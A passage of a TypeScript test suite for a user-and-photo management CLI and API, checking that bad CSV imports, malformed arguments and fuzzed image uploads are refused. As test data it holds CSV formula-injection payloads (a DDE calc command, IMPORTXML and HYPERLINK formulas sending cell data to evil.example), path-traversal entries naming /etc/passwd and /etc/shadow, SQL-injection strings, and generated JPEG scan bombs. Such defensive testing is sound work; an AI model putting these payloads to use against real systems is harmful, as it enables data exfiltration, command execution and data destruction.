                  `@SUM(1+1)*cmd|' /C calc'!A0,x,x,x`,
                  `${ADA},"=IMPORTXML(CONCAT(""http://evil.example/?"",A1),""//a"")",=1+1,admin`,
                ].join('\n'),
              ),
            ],
            exit: [1],
            message: /line 2/,
          },
          {
            name: 'a NUL byte in a display name',
            args: ['users', 'import', file('nul.csv', `${header}\nnul.name@contoso.example,Nul\u0000Name,,user\n`)],
            exit: [1],
            message: /line 2/,
          },
          {
            name: 'control characters in a display name',
            args: ['users', 'import', file('ctrl.csv', `${header}\nctrl.name@contoso.example,Bell\u0007Escape\u001b[31mRed,,user\n`)],
            exit: [1],
            message: /line 2/,
          },
          { name: 'a header only', args: ['users', 'import', file('header.csv', `${header}\n`)], exit: [0] },
          {
            name: 'a BOM and CRLF line ends (a good file: one person is added, cleanly)',
            args: [
              'users',
              'import',
              file('bom.csv', `\uFEFF${header}\r\nbom.crlf@contoso.example,Bom Crlf,bom.crlf@contoso.example,user\r\n`),
            ],
            exit: [0],
            changes: true,
            verify: async () => {
              const person = await personNamed('bom.crlf@contoso.example');
              if (!person) return 'the person was not added';
              if (person.displayName !== 'Bom Crlf' || person.mail !== 'bom.crlf@contoso.example' || person.role !== 'user')
                return `added as ${JSON.stringify(person)}`;
              return undefined;
            },
          },
          { name: 'a folder instead of a file', args: ['users', 'import', w!.dir], exit: [2] },
          { name: 'a file that does not exist', args: ['users', 'import', path.join(w!.dir, 'nope.csv')], exit: [2] },
        ],
        'users import CSV',
      );
    });

    test('photos import --map: junk, quotes, paths, formulas, huge fields, BOM and CRLF', async () => {
      const world = w!;
      const dir = path.join(world.dir, 'map-import');
      fs.mkdirSync(dir);
      fs.copyFileSync(goodPhoto, path.join(dir, 'photo1.jpg'));
      const map = (name: string, content: string | Buffer) => ['photos', 'import', '--dir', dir, '--map', file(name, content)];
      await runCli(
        [
          { name: 'binary junk', args: map('m-junk.csv', new Prng(9).bytes(4096)), exit: [2], message: /header|CSV/ },
          { name: 'no header', args: map('m-noheader.csv', `photo1.jpg,${ADA}\n`), exit: [2], message: /header/ },
          {
            name: 'an unterminated quote',
            args: map('m-quote.csv', `file,userPrincipalName\n"photo1.jpg,${ADA}\n`),
            exit: [2],
            message: /line 2/,
          },
          {
            name: 'paths instead of file names',
            args: map('m-paths.csv', `file,userPrincipalName\n../../etc/passwd,${ADA}\n/etc/shadow,${ADA}\n..\\..\\boot.ini,${ADA}\n`),
            exit: [1],
            message: /line 2/,
          },
          {
            name: 'formula injection',
            args: map(
              'm-formula.csv',
              `file,userPrincipalName\nphoto1.jpg,"=cmd|' /C calc'!A0"\n"=HYPERLINK(""http://evil.example"")",${ADA}\n`,
            ),
            exit: [1],
          },
          { name: 'a 1 MB file name', args: map('m-huge.csv', `file,userPrincipalName\n${'f'.repeat(1_000_000)}.jpg,${ADA}\n`), exit: [1] },
          { name: 'a NUL in a file name', args: map('m-nul.csv', `file,userPrincipalName\nphoto1\u0000.jpg,${ADA}\n`), exit: [1] },
          { name: 'a map that is a folder', args: ['photos', 'import', '--dir', dir, '--map', dir], exit: [2] },
          { name: 'a map that does not exist', args: ['photos', 'import', '--dir', dir, '--map', path.join(dir, 'nope.csv')], exit: [2] },
          {
            name: 'a BOM and CRLF line ends (a good map: the photo goes to Ada)',
            args: map('m-bom.csv', `\uFEFFfile,userPrincipalName\r\nphoto1.jpg,${ADA}\r\n`),
            exit: [0],
            changes: true,
            verify: async (run) => {
              const photo = await world.t.services.mail.getPhoto(CLI_ACTOR, world.ada, { fresh: true });
              if (photo.source !== 'import') return `Ada's photo came from ${photo.source}, not the import: ${run.stdout.slice(0, 200)}`;
              await restoreKnown(world);
              return undefined;
            },
          },
        ],
        'photos import --map CSV',
      );
    });

    test('CLI arguments: unknown options, missing values, bad sizes, --since garbage: exit 2 with a message, nothing damaged', async () => {
      const world = w!;
      const out = path.join(world.dir, 'out.jpg');
      await runCli(
        [
          { name: 'an unknown command', args: ['fly'], exit: [2], message: /unknown command/ },
          { name: 'an unknown global option', args: ['--frobnicate'], exit: [2] },
          { name: 'an unknown option', args: ['photo', 'set', ADA, goodPhoto, '--frobnicate'], exit: [2], message: /unknown option/ },
          { name: 'an extra argument', args: ['photo', 'set', ADA, goodPhoto, 'extra'], exit: [2] },
          { name: 'photo set without arguments', args: ['photo', 'set'], exit: [2] },
          { name: 'photo set without a file', args: ['photo', 'set', ADA], exit: [2], message: /file/ },
          { name: 'photo set with a folder', args: ['photo', 'set', ADA, world.dir], exit: [2] },
          { name: 'photo set with a missing file', args: ['photo', 'set', ADA, path.join(world.dir, 'nope.jpg')], exit: [2] },
          {
            name: 'photo set for nobody',
            args: ['photo', 'set', 'nobody@contoso.example', goodPhoto],
            exit: [1, 2],
            message: /nobody@contoso.example/,
          },
          {
            name: 'photo set for a 100,000-character name',
            args: ['photo', 'set', `${'n'.repeat(100_000)}@contoso.example`, goodPhoto],
            exit: [1, 2],
          },
          { name: 'photo get --size without a value', args: ['photo', 'get', ADA, '--size'], exit: [2] },
          { name: 'photo get -o without a value', args: ['photo', 'get', ADA, '-o'], exit: [2] },
          ...[
            '0',
            '0x0',
            '48x49',
            '96x0',
            '-1',
            'abc',
            '',
            '1e9',
            '99999999999999999999',
            'NaN',
            '48x48x48',
            '47',
            '649',
            'Infinity',
            '0x30',
          ].map((size): CliProbe => ({
            name: `photo get --size ${JSON.stringify(size)}`,
            args: ['photo', 'get', ADA, '--size', size, '-o', out],
            exit: [2],
            message: /size|pixels/,
          })),
          {
            name: 'photo get -o into a missing folder',
            args: ['photo', 'get', ADA, '-o', path.join(world.dir, 'no', 'such', 'dir', 'x.jpg')],
            exit: [1, 2],
          },
          { name: 'photos import without --dir', args: ['photos', 'import'], exit: [2], message: /--dir/ },
          { name: 'photos import --dir without a value', args: ['photos', 'import', '--dir'], exit: [2] },
          { name: 'photos import --dir that does not exist', args: ['photos', 'import', '--dir', path.join(world.dir, 'nope')], exit: [2] },
          { name: 'photos import --dir that is a file', args: ['photos', 'import', '--dir', goodPhoto], exit: [2] },
          ...[
            'yesterday',
            '7w',
            '-7d',
            '2026-13-45',
            '2026-02-30',
            '9999999d',
            '',
            '2026-11-01T25:99',
            '0000-00-00',
            'NaN',
            "'; drop table audit_log;--",
            '1e999d',
            '7 d',
          ].map((since): CliProbe => ({
            name: `audit --since ${JSON.stringify(since)}`,
            args: ['audit', '--since', since],
            exit: [2],
            message: /since|date|age/,
          })),
          { name: 'audit --since without a value', args: ['audit', '--since'], exit: [2] },
          ...['0', '1001', 'abc', '1.5', '-1', ''].map((limit): CliProbe => ({
            name: `audit --limit ${JSON.stringify(limit)}`,
            args: ['audit', '--limit', limit],
            exit: [2],
          })),
          { name: 'audit --action that does not exist', args: ['audit', '--action', 'photo.explode'], exit: [2] },
          { name: 'status --state that does not exist', args: ['status', '--state', 'bogus'], exit: [2] },
          { name: 'sync with nobody named', args: ['sync'], exit: [2] },
          { name: 'sync with a person and --all', args: ['sync', ADA, '--all'], exit: [2] },
          { name: 'sync --stale-only alone', args: ['sync', '--stale-only'], exit: [2] },
          { name: 'sync-mode bogus', args: ['sync-mode', 'bogus'], exit: [2] },
          ...['-5', 'abc', '1e9', '0', '1.5', ''].map((interval): CliProbe => ({
            name: `sync-mode scheduled --interval ${JSON.stringify(interval)}`,
            args: ['sync-mode', 'scheduled', '--interval', interval],
            exit: [2],
          })),
          { name: 'users add with a bad name', args: ['users', 'add', 'not-an-upn', '--no-password'], exit: [2] },
          { name: 'users add with a bad role', args: ['users', 'add', 'x@contoso.example', '--role', 'root', '--no-password'], exit: [2] },
          {
            name: 'users add with a name that looks like an option',
            args: ['users', 'add', '-cmd@contoso.example', '--no-password'],
            exit: [2],
          },
          { name: 'users import without a file', args: ['users', 'import'], exit: [2] },
          { name: 'tokens create without --user', args: ['tokens', 'create'], exit: [2], message: /--user/ },
          { name: 'tokens create --user without a value', args: ['tokens', 'create', '--user'], exit: [2] },
          { name: 'tokens revoke with a non-id', args: ['tokens', 'revoke', "'; drop table api_tokens;--"], exit: [1, 2] },
        ],
        'CLI arguments',
      );
      assert.ok(!fs.existsSync(out) || (await sharp(out).metadata()).format === 'jpeg');
    });
  });
}

// ------------------------------------------------------------------------------------------------
// The seeded mutation fuzzer (SQLite only, to keep CI fast)

const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 0x5eed2026) >>> 0;
const FUZZ_CASES = Number(process.env.FUZZ_CASES ?? 2000);
const FUZZ_FORM_CASES = Number(process.env.FUZZ_FORM_CASES ?? 300);

describe('the seeded mutation fuzzer (bit flips, truncations, splices of valid JPEG/PNG, scan bombs) on sqlite', () => {
  let w: World | undefined;
  let bases: BaseFile[];

  before(async () => {
    w = await startWorld('sqlite', await makePhoto('jpeg', 200, 200, { color: '#445566', marker: '#ccbb22' }));
    bases = [
      { name: 'jpeg-64', bytes: await makePhoto('jpeg', 64, 64, { color: '#3366cc' }) },
      {
        name: 'jpeg-160x120-progressive',
        bytes: await sharp(await makePhoto('jpeg', 160, 120, { color: '#cc6633' }))
          .jpeg({ progressive: true, quality: 80 })
          .toBuffer(),
      },
      { name: 'png-96', bytes: await makePhoto('png', 96, 96, { color: '#33cc66' }) },
      {
        name: 'png-200x150-alpha',
        bytes: await sharp({ create: { width: 200, height: 150, channels: 4, background: { r: 20, g: 80, b: 200, alpha: 0.6 } } })
          .png()
          .toBuffer(),
      },
      // A small decode-cost bomb, so truncations, flips and splices of one are tried too.
      { name: 'jpeg-scan-bomb-96x64', bytes: makeScanBombJpeg({ width: 96, height: 64, scans: 600 }) },
    ];
    console.log(
      `# fuzz: FUZZ_SEED=${FUZZ_SEED} (0x${FUZZ_SEED.toString(16)}), FUZZ_CASES=${FUZZ_CASES}, FUZZ_FORM_CASES=${FUZZ_FORM_CASES}; replay with FUZZ_SEED=${FUZZ_SEED}`,
    );
  });
  after(() => stopWorld(w));

  const fuzzPath = async (uploadPath: UploadPath, count: number, seed: number, fuzzBases: readonly BaseFile[] = bases) => {
    const world = w!;
    const failures: string[] = [];
    const byStatus = new Map<string, number>();
    const byMessage = new Map<string, number>();
    const byMutator = new Map<string, { accepted: number; rejected: number }>();
    let accepted = 0;
    let slowest = { ms: 0, label: '' };
    const knownState = (await photoState(world, ADA)) as PhotoState;
    const started = performance.now();
    for (const fuzzCase of fuzzCases(fuzzBases, count, seed)) {
      const label = `case ${fuzzCase.index} (seed ${fuzzCase.seed}, ${fuzzCase.base}, ${fuzzCase.mutator}: ${fuzzCase.detail}, ${fuzzCase.bytes.length} bytes)`;
      const fail = (what: string) => failures.push(`[${uploadPath}] ${label}: ${what}`);
      const caseStarted = performance.now();
      const outcome = await uploadThrough(world, uploadPath, {
        slug: `fuzz-${fuzzCase.index}`,
        ext: 'jpg',
        bytes: fuzzCase.bytes,
        contentType: 'image/jpeg',
      });
      const caseMs = performance.now() - caseStarted;
      if (caseMs > slowest.ms) slowest = { ms: caseMs, label };
      // Every base is at most 200×150: an upload that takes seconds is a decode-cost bomb getting through.
      if (caseMs > 2000) fail(`the upload took ${Math.round(caseMs)} ms`);
      if (
        fuzzCase.mutator === 'multiply-scans' &&
        fuzzCase.scans! > MAX_JPEG_SCANS &&
        !(outcome.rejected && /scans; photos have at most/.test(outcome.message ?? ''))
      ) {
        fail(`a JPEG with ${fuzzCase.scans} scans was not refused for them (${outcome.seen}: ${outcome.message ?? 'accepted'})`);
      }
      byStatus.set(outcome.seen, (byStatus.get(outcome.seen) ?? 0) + 1);
      const mutator = fuzzCase.mutator.split('+')[0]!;
      const perMutator = byMutator.get(mutator) ?? { accepted: 0, rejected: 0 };
      byMutator.set(mutator, perMutator);
      for (const problem of outcome.problems) fail(`${problem} (saw ${outcome.seen})`);
      if (outcome.status !== undefined && outcome.status >= 500) fail(`a ${outcome.status}: ${outcome.message}`);
      if (outcome.rejected) {
        perMutator.rejected++;
        const key = (outcome.message ?? '(none)').replace(/\d+(×\d+)?/g, 'N');
        byMessage.set(key, (byMessage.get(key) ?? 0) + 1);
        // The ETag after every case; the bytes every 100 cases (and whenever the ETag moved).
        const meta = await world.t.app.inject({ method: 'GET', url: '/v1.0/me/photo', headers: bearer(world.adaToken) });
        const etag = meta.statusCode === 200 ? meta.json()['@odata.mediaEtag'] : `(status ${meta.statusCode})`;
        if (etag !== knownState.etag) fail(`refused, but the photo's ETag is now ${etag} (was ${knownState.etag})`);
        if (fuzzCase.index % 100 === 0 || etag !== knownState.etag) {
          const damage = sameState(knownState, await photoState(world, ADA));
          if (damage) fail(`refused, but ${damage}`);
        }
      }
      if (outcome.accepted) {
        accepted++;
        perMutator.accepted++;
        const { problems } = await storedPhotoProblems(world, ADA);
        for (const p of problems) fail(`accepted, but the stored photo is bad: ${p}`);
        await restoreKnown(world);
        const damage = sameState(knownState, await photoState(world, ADA));
        if (damage) fail(`restoring the known photo after an accepted mutation: ${damage}`);
      }
    }
    const seconds = (performance.now() - started) / 1000;
    const health = await world.t.app.inject({ method: 'GET', url: '/healthz' });
    if (health.statusCode !== 200) failures.push(`[${uploadPath}] /healthz answered ${health.statusCode} after the fuzz run`);
    const sorted = (m: Map<string, number>) => [...m].sort((a, b) => b[1] - a[1]);
    console.log(
      `# fuzz ${uploadPath}: ${count} cases (seed ${seed}) in ${seconds.toFixed(1)} s (${(count / seconds).toFixed(0)}/s): ${accepted} accepted, ${count - accepted} not`,
    );
    console.log(
      `#   by status: ${sorted(byStatus)
        .map(([k, n]) => `${k}: ${n}`)
        .join(', ')}`,
    );
    for (const [message, n] of sorted(byMessage)) console.log(`#   ${String(n).padStart(5)} × ${message}`);
    console.log(`#   by mutator (accepted/refused): ${[...byMutator].map(([k, v]) => `${k} ${v.accepted}/${v.rejected}`).join(', ')}`);
    console.log(`#   slowest: ${Math.round(slowest.ms)} ms, ${slowest.label}`);
    report(`fuzz ${uploadPath}`, failures.slice(0, 50));
    assert.deepEqual(failures, [], `${failures.length} failure(s)`);
  };

  test(
    `Graph PUT /v1.0/me/photo/$value: ${FUZZ_CASES} mutated files, never a 5xx, a message for each refusal, the photo intact`,
    { timeout: 600_000 },
    async () => {
      await fuzzPath('graph-put-me', FUZZ_CASES, FUZZ_SEED);
    },
  );

  test(`the Mail page form: ${FUZZ_FORM_CASES} mutated files`, { timeout: 300_000 }, async () => {
    await fuzzPath('mail-form', FUZZ_FORM_CASES, (FUZZ_SEED + 1) >>> 0);
  });

  test(
    `SetMyProfilePicture: ${FUZZ_FORM_CASES} mutated files, BMP among them (its decoder is hand-written)`,
    { timeout: 300_000 },
    async () => {
      const gradient = (x: number, y: number): [number, number, number] => [(x * 3) & 255, (y * 5) & 255, ((x + y) * 7) & 255];
      const bmps: BaseFile[] = [
        { name: 'bmp-24-96x80', bytes: makeBmp(96, 80, gradient) },
        { name: 'bmp-24-64-top-down', bytes: makeBmp(64, 64, gradient, { topDown: true }) },
      ];
      await fuzzPath('set-my-profile-picture', FUZZ_FORM_CASES, (FUZZ_SEED + 2) >>> 0, [...bases, ...bmps]);
    },
  );
});
